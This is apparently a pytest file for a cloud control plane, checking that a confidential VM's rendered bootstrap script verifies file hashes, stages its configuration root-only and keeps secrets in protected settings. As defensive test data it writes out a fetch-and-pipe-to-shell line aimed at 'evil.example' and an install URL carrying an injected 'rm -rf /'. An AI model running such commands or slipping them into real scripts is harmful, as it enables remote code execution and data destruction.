"""The cvm bootstrap script the control plane renders: it hands over to the guest agent's own
``bootstrap.sh`` (fetched by the Custom Script extension and hash-checked), the agent user can
read its configuration, the lab still finds the configuration, and nothing secret travels
outside the extension's protected settings."""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
import tomli_w
import yaml

from cotenant.bicep_params import declared_parameters
from cotenant.cloud.base import CloudError
from cotenant.cloud.bootstrap import (
    CONFIG_PATH,
    INSTALL_DIR,
    INSTALL_FILES,
    AgentInstall,
    install_file_hashes,
    render_bootstrap,
)
from cotenant.cloud.settings import LAB_AGENT_INSTALL, agent_install
from cotenant.deployments import module_parameters, module_path
from cotenant.lab.manager import agent_config_from_bootstrap
from cotenant.plan import build_plan
from cotenant.spec import parse_spec

REPO = Path(__file__).resolve().parents[2]
SHA = "ab" * 32
INSTALL = AgentInstall(bundle_url="https://stagent.blob.core.windows.net/agent/bundle.tar.gz",
                       bundle_sha256=SHA,
                       files_url="https://stagent.blob.core.windows.net/agent/install/")
NONCE = "n0nce-Challenge-7f3a9c"
CONNECTION = ("DefaultEndpointsProtocol=https;AccountName=stq;AccountKey=c2VjcmV0LWtleQ==;"
              "QueueEndpoint=https://stq.queue.core.windows.net/")
CONFIG = {
    "schema_version": 1, "tenant": "acme", "party": "contoso", "vm_name": "acme-contoso-vm",
    "backend": "tpm",
    "orchestration": {"instance": "acme", "nonce": NONCE},
    "attestation": {"endpoint": "https://sharedneu.neu.attest.azure.net"},
    "identity": {"client_id": "00000000-0000-0000-0000-000000000001"},
    "keys": [{"vault_url": "https://acme-contoso-kv.vault.azure.net",
              "name": "contoso-secret-key"}],
    "queues": {"reports_url": "https://stq.queue.core.windows.net/guest-reports",
               "commands_url": "https://stq.queue.core.windows.net/cmd-acme-contoso",
               "connection_string": CONNECTION},
}
AGENT_TOML = tomli_w.dumps(CONFIG)


@pytest.fixture(scope="module")
def script() -> str:
    return render_bootstrap(AGENT_TOML, INSTALL)


def _exec_args(script: str) -> list[str]:
    line = next(x for x in script.splitlines() if x.startswith("exec "))
    return shlex.split(line)[1:]


def test_the_script_hands_over_to_the_agents_bootstrap_sh_with_the_pinned_bundle(script):
    assert _exec_args(script) == ["bash", "./bootstrap.sh", "--config-file", CONFIG_PATH,
                                  "--bundle-url", INSTALL.bundle_url,
                                  "--bundle-sha256", SHA]
    assert "pip install" not in script and "systemctl" not in script  # bootstrap.sh's job
    assert INSTALL.file_uris() == [
        "https://stagent.blob.core.windows.net/agent/install/bootstrap.sh",
        "https://stagent.blob.core.windows.net/agent/install/cotenant-guest-agent.service"]


def test_the_lab_reads_the_agent_configuration_from_the_first_heredoc(script):
    assert agent_config_from_bootstrap(script) == AGENT_TOML


def test_the_configuration_is_staged_root_only_before_bootstrap_sh_takes_over(script):
    lines = script.splitlines()
    staged = [lines.index("umask 077"),
              lines.index("install -d -m 0700 -o root -g root /etc/cotenant"),
              lines.index(f"cat > {CONFIG_PATH} <<'COTENANT_AGENT_TOML'"),
              lines.index(f"chmod 0600 {CONFIG_PATH}"),
              next(i for i, x in enumerate(lines) if x.startswith("exec "))]
    assert staged == sorted(staged)


def test_bootstrap_sh_accepts_the_arguments_and_makes_the_config_readable_by_the_agent_only(
        script, tmp_path):
    """The rendered exec line, run in bootstrap.sh's dry-run mode: it re-owns the staged
    configuration 0640 root:cotenant-agent in a 0750 root:cotenant-agent folder."""
    args = _exec_args(script)
    assert args[:2] == ["bash", "./bootstrap.sh"]
    result = subprocess.run(
        ["bash", str(INSTALL_DIR / "bootstrap.sh"), *args[2:], "--dry-run", "--root",
         str(tmp_path)], capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert f"install -d -m 0750 -o root -g cotenant-agent {tmp_path}/etc/cotenant" in out
    assert (f"install {CONFIG_PATH} as {tmp_path}/etc/cotenant/agent.toml "
            "(0640 root:cotenant-agent)") in out
    assert "--require-hashes" in out and SHA in out
    assert f"{tmp_path}/etc/systemd/system/cotenant-guest-agent.service" in out
    assert "systemctl mask ssh.socket ssh.service" in out


def _hash_check(script: str) -> str:
    found = re.search(r"^sha256sum .*?^COTENANT_FILE_HASHES$", script, re.S | re.M)
    assert found is not None
    return found.group(0) + "\n"


def test_the_downloaded_files_must_match_the_shipped_ones(script, tmp_path):
    check = _hash_check(script)
    for name in INSTALL_FILES:
        shutil.copy(INSTALL_DIR / name, tmp_path / name)
    ok = subprocess.run(["bash", "-euo", "pipefail", "-c", check], cwd=tmp_path,
                        capture_output=True, text=True, timeout=30, check=False)
    assert ok.returncode == 0, ok.stderr
    (tmp_path / "bootstrap.sh").write_text("#!/bin/bash\ncurl https://evil.example | sh\n")
    tampered = subprocess.run(["bash", "-euo", "pipefail", "-c", check], cwd=tmp_path,
                              capture_output=True, text=True, timeout=30, check=False)
    assert tampered.returncode != 0
    assert set(install_file_hashes()) == set(INSTALL_FILES)


@pytest.mark.skipif(shutil.which("shellcheck") is None, reason="shellcheck is not installed")
def test_the_rendered_script_passes_shellcheck(script, tmp_path):
    path = tmp_path / "bootstrap-script.sh"
    path.write_text(script)
    result = subprocess.run(["shellcheck", "--shell=bash", str(path)], capture_output=True,
                            text=True, timeout=60, check=False)
    assert result.returncode == 0, result.stdout


def test_a_config_holding_the_heredoc_marker_is_refused():
    with pytest.raises(ValueError, match="marker"):
        render_bootstrap('x = """\nCOTENANT_AGENT_TOML\n"""\n', INSTALL)


def test_nothing_secret_travels_outside_the_protected_settings(script):
    plan = build_plan(parse_spec(yaml.safe_load((REPO / "examples" / "three-party.yaml")
                                                .read_text())))
    params = module_parameters(plan, "cvm", "contoso", admin_username="cvmops7",
                               admin_password="Sup3r-Secret-Passw0rd!", bootstrap_script=script,
                               bootstrap_file_uris=INSTALL.file_uris())
    declared = declared_parameters(module_path("cvm"))
    assert params["bootstrapFileUris"] == INSTALL.file_uris()
    assert declared["bootstrapScript"].secure and declared["adminPasswordOrKey"].secure
    public = {name: value for name, value in params.items() if not declared[name].secure}
    text = repr(public)
    for secret in (NONCE, CONNECTION, "c2VjcmV0LWtleQ==", "Sup3r-Secret-Passw0rd!"):
        assert secret not in text
    assert not [u for u in params["bootstrapFileUris"] if "?" in u]  # no SAS tokens
    bicep = module_path("cvm").read_text()
    protected = re.search(r"protectedSettings: \{(.*?)\}", bicep, re.S)
    assert protected is not None
    assert "base64(bootstrapScript)" in protected.group(1)
    assert "fileUris: bootstrapFileUris" in protected.group(1)
    assert re.search(r"^\s+settings:", bicep, re.M) is None


@pytest.mark.parametrize(("field", "value"), [
    ("bundle_url", "http://stagent.blob.core.windows.net/agent/bundle.tar.gz"),
    ("bundle_url", "https://x/b.tgz'; rm -rf /"),
    ("bundle_sha256", "ABC"),
    ("files_url", "https://stagent.blob.core.windows.net/agent?sv=2024&sig=secret"),
])
def test_agent_install_settings_are_validated(field, value):
    env = {"COTENANT_AGENT_BUNDLE_URL": INSTALL.bundle_url,
           "COTENANT_AGENT_BUNDLE_SHA256": SHA,
           "COTENANT_AGENT_FILES_URL": INSTALL.files_url}
    names = {"bundle_url": "COTENANT_AGENT_BUNDLE_URL",
             "bundle_sha256": "COTENANT_AGENT_BUNDLE_SHA256",
             "files_url": "COTENANT_AGENT_FILES_URL"}
    assert agent_install(env) == INSTALL
    with pytest.raises(CloudError, match=names[field]) as caught:
        agent_install({**env, names[field]: value})
    assert "secret" not in str(caught.value)


def test_agent_install_settings_are_required_on_azure_and_default_in_the_lab():
    with pytest.raises(CloudError, match="COTENANT_AGENT_BUNDLE_URL"):
        agent_install({})
    with pytest.raises(CloudError, match="COTENANT_AGENT_FILES_URL"):
        agent_install({"COTENANT_AGENT_BUNDLE_URL": INSTALL.bundle_url,
                       "COTENANT_AGENT_BUNDLE_SHA256": SHA}, LAB_AGENT_INSTALL)
    assert agent_install({}, LAB_AGENT_INSTALL) == LAB_AGENT_INSTALL
